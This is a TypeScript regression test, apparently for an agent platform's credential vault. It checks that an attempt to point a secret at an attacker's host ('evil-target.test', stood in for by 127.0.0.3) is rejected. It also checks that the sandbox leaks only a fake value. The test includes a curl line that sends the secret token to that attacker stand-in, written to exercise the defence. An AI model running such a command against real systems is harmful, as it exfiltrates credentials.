/**
 * Issue 22 H2, as the review found it: an API key that does not know an `environment_variable`
 * secret tries to point it at a host of its own through `/v1` (the official SDK, the real REST
 * handler). The update is refused with a 400 naming the fields and the rule, nothing is written,
 * and the next real sandbox hand still sends the value only to the credential's original host.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Anthropic from '@anthropic-ai/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Hand } from '~/lib/hand';
import { createDemoBrain } from '~/server/harness/demo-brain';
import { testRuntime } from '~/server/harness/testing/test-runtime';
import { createLocalHandProvisioner } from '~/server/hands/sandbox/provisioner';
import { type EchoServers, startEchoServers } from '~/server/hands/testing/https-echo';
import { handleRest } from '~/server/rest/handler';
import { type FetchServer, serveFetch } from '~/server/rest/testing/serve-fetch';
import type { Runtime } from '~/server/runtime';
import { openSqliteStore } from '~/server/session/sqlite-store';
import { VaultSecrets } from '~/server/vault/secrets';

const KEY = 'test-api-key-0123456789';
const TOKEN = `tok-${randomBytes(16).toString('hex')}`;

let dir: string;
let rt: Runtime;
let server: FetchServer;
let client: Anthropic;
let echo: EchoServers;
let hand: Hand | undefined;
const savedCa = process.env.NODE_EXTRA_CA_CERTS;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paddock-vault-redirect-'));
  // 127.0.0.2 is the credential's host; 127.0.0.3 stands for evil-target.test (a host of the attacker's).
  echo = await startEchoServers(['127.0.0.2', '127.0.0.3'], () => TOKEN);
  process.env.NODE_EXTRA_CA_CERTS = echo.caFile;
  const store = await openSqliteStore({ file: path.join(dir, 'db.sqlite') });
  rt = testRuntime({ store, model: createDemoBrain(), dataDir: dir, env: { PADDOCK_API_KEY: KEY } });
  server = await serveFetch((req) => handleRest(req, { runtime: () => Promise.resolve(rt), maxBodyBytes: 256 * 1024 }));
  client = new Anthropic({ apiKey: KEY, baseURL: server.url, maxRetries: 0 });
}, 60_000);

afterAll(async () => {
  await hand?.close();
  await server?.close();
  await rt?.harness.close();
  await rt?.store.close();
  await echo?.close();
  if (savedCa === undefined) delete process.env.NODE_EXTRA_CA_CERTS;
  else process.env.NODE_EXTRA_CA_CERTS = savedCa;
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('redirecting a credential through /v1', () => {
  it('refuses the review repro with a 400, writes nothing, and the next hand sends the value only to the original host', async () => {
    const v = await client.beta.vaults.create({ display_name: 'secrets' });
    const c = await client.beta.vaults.credentials.create(v.id, {
      auth: { type: 'environment_variable', secret_name: 'TOKEN', secret_value: TOKEN, networking: { type: 'limited', allowed_hosts: [new URL(echo.https['127.0.0.2']!).host] } },
    });
    for (const allowed_hosts of [['evil-target.test'], [new URL(echo.https['127.0.0.3']!).host]]) {
      let err: unknown;
      try {
        // The review's exact body (with the test's stand-in for evil-target.test on the second round).
        await client.beta.vaults.credentials.update(c.id, {
          vault_id: v.id,
          metadata: { moved: 'yes' },
          auth: { type: 'environment_variable', networking: { type: 'limited', allowed_hosts }, injection_location: { header: true, body: true } },
        });
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(Anthropic.BadRequestError);
      const body = (err as InstanceType<typeof Anthropic.BadRequestError>).error as { error?: { type?: string; message?: string } };
      expect(body.error?.type).toBe('invalid_request_error');
      expect(body.error?.message).toMatch(/^auth\.networking, auth\.injection_location: changing where or how credential vcrd_\w+'s secret is sent needs the secret in the same request: send auth\.secret_value/);
    }
    expect(await client.beta.vaults.credentials.retrieve(c.id, { vault_id: v.id })).toEqual(c);

    // What the runtime gives a session's sandbox hands (sessionHandSecrets): the vault's live secrets.
    const vaultSecrets = rt.vaultSecrets;
    if (!(vaultSecrets instanceof VaultSecrets)) throw new Error('the runtime has no VaultSecrets');
    const provisioner = createLocalHandProvisioner({ dataDir: path.join(dir, 'data'), workspacesDir: path.join(dir, 'ws') });
    hand = await provisioner.provision(
      'redirect-1',
      { kind: 'sandbox', allowedDomains: ['127.0.0.2', '127.0.0.3'], secrets: () => vaultSecrets.handSecrets([v.id]) },
      { signal: new AbortController().signal },
    );
    let calls = 0;
    const run = (command: string) => hand!.execute('bash', { command, timeout_ms: 30_000 }, { callId: `call-${++calls}`, signal: new AbortController().signal });
    echo.seen.length = 0;
    for (const url of [echo.https['127.0.0.3'], echo.https['127.0.0.2']]) {
      await run(`curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' --data "{\\"t\\":\\"$TOKEN\\"}" ${url}/`);
    }
    expect(echo.seen.map((s) => s.host)).toEqual([expect.stringMatching(/^127\.0\.0\.3:/), expect.stringMatching(/^127\.0\.0\.2:/)]);
    const [evil, original] = echo.seen;
    expect(JSON.stringify(evil)).not.toContain(TOKEN);
    expect(evil!.authorization).toMatch(/^Bearer fake_value_/);
    expect(original!.authorization).toBe(`Bearer ${TOKEN}`);
    expect(original!.body).not.toContain(TOKEN); // the body was never allowed, and still is not
  }, 120_000);
});
